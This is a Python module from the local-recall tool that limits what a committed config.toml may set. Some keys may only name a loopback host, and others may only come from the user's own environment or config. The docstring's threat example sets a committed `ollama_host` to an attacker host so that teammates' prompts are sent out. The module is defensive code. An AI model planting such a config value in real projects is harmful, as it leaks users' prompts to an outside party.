"""What a committed config.toml may decide, and where a user's own config lives.

The repository's `local-recall/config.toml` is written by whoever can push. Most keys only tune
behaviour, but a few decide where prompts and memories go or which program runs: a committed
`[embedder] ollama_host = "http://attacker:11434"` would make every teammate's hooks send each
prompt there, a committed `claude_path` would run the attacker's program. Those keys are
*machine keys*: the committed file may only name this machine (a loopback host) or nothing at
all; anything else comes from the user — the environment (`OLLAMA_HOST`,
`LOCAL_RECALL_<SECTION>_<KEY>`) or the user config `~/.config/local-recall/config.toml`.
Pure: no file is read here. Light: the hooks import it on every prompt.
"""

from __future__ import annotations

import os
from collections.abc import Mapping
from pathlib import Path

USER_CONFIG_NAME = "config.toml"
# (section, key) -> what the committed file may hold: "loopback" (a URL on this machine) or
# "never" (only the user's environment or user config may set it).
MACHINE_KEYS: dict[tuple[str, str], str] = {
    ("embedder", "ollama_host"): "loopback",
    ("extraction", "claude_path"): "never",
    ("extraction", "cli_path"): "never",  # the codex / gemini extractor's program
}


def user_config_path(environ: Mapping[str, str]) -> Path:
    """$LOCAL_RECALL_CONFIG_DIR/config.toml, else $XDG_CONFIG_HOME/local-recall/config.toml,
    else ~/.config/local-recall/config.toml."""
    explicit = environ.get("LOCAL_RECALL_CONFIG_DIR")
    if explicit:
        return Path(explicit).expanduser() / USER_CONFIG_NAME
    xdg = environ.get("XDG_CONFIG_HOME")
    if xdg and os.path.isabs(xdg):
        return Path(xdg) / "local-recall" / USER_CONFIG_NAME
    home = environ.get("HOME") or os.path.expanduser("~")
    return Path(home) / ".config" / "local-recall" / USER_CONFIG_NAME


def is_loopback_url(value: str) -> bool:
    """A host URL (`http://127.0.0.1:11434`, `localhost:11434`, `[::1]`) naming this machine."""
    import ipaddress  # lazily: the hooks import this module on every prompt
    from urllib.parse import urlsplit

    text = value.strip()
    try:
        host = urlsplit(text if "://" in text else "http://" + text).hostname
    except ValueError:
        return False
    if not host:
        return False
    if host.lower() == "localhost":
        return True
    try:
        return ipaddress.ip_address(host).is_loopback
    except ValueError:
        return False


def committed_value_problem(section: str, key: str, value: object) -> str | None:
    """Why the committed config may not hold this value, or None when it may."""
    rule = MACHINE_KEYS.get((section, key))
    if rule is None or value in ("", None):
        return None
    where = (
        f"set it in your own environment (LOCAL_RECALL_{section.upper()}_{key.upper()}) "
        "or in ~/.config/local-recall/config.toml"
    )
    if rule == "loopback":
        if isinstance(value, str) and is_loopback_url(value):
            return None
        return (
            f"{value!r} is not on this machine: a committed config may only name a "
            f"loopback host; {where}"
        )
    return f"a committed config may not choose a program to run; {where}"
